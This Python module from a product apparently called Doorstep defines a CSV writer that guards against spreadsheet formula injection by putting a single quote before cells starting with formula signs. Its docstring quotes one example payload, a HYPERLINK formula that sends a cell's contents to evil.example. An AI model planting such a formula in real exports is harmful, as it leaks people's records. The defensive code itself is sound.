"""The one CSV writer of the product: every cell of every CSV Doorstep writes goes through it (issue 13, finding 5).

A spreadsheet runs a cell that begins with = + - or @ as a formula, and some programs skip a leading tab or
carriage return (or spaces) before deciding. A family named `=HYPERLINK("https://evil.example/?"&B2,"Open")` in a
chronology export would become a link that sends the record away when someone opens the file. OWASP's advice
("CSV Injection") is followed: such a cell gets a single quote in front, and the spreadsheet shows it as text. The
full-width forms of the four signs are treated the same, as some spreadsheets read them as the ASCII ones.

Nothing else may use the standard library's csv writer: doorstep/core/tests/test_csv.py fails if a module does.
"""

import csv
import io
from collections.abc import Iterable

# The signs a spreadsheet reads as the start of a formula, with their full-width forms, and the tab and carriage
# return that OWASP lists.
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# Skipped by some spreadsheets (LibreOffice's "trim spaces") before they look for a formula.
SKIPPED_FIRST = " \n\x0b\x0c\u00a0"


def neutralise(value) -> str:
    """The text of one cell, with a single quote in front if a spreadsheet would run it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_SIGNS) or text.lstrip(SKIPPED_FIRST).startswith(FORMULA_SIGNS):
        return "'" + text
    return text


class CsvWriter:
    """Like csv.writer, but every cell is neutralised first. Use `csv_writer(out)`."""

    def __init__(self, out):
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out) -> CsvWriter:
    return CsvWriter(out)


def csv_text(rows: Iterable[Iterable]) -> str:
    """A whole CSV document as text, every cell neutralised."""
    out = io.StringIO()
    csv_writer(out).writerows(rows)
    return out.getvalue()
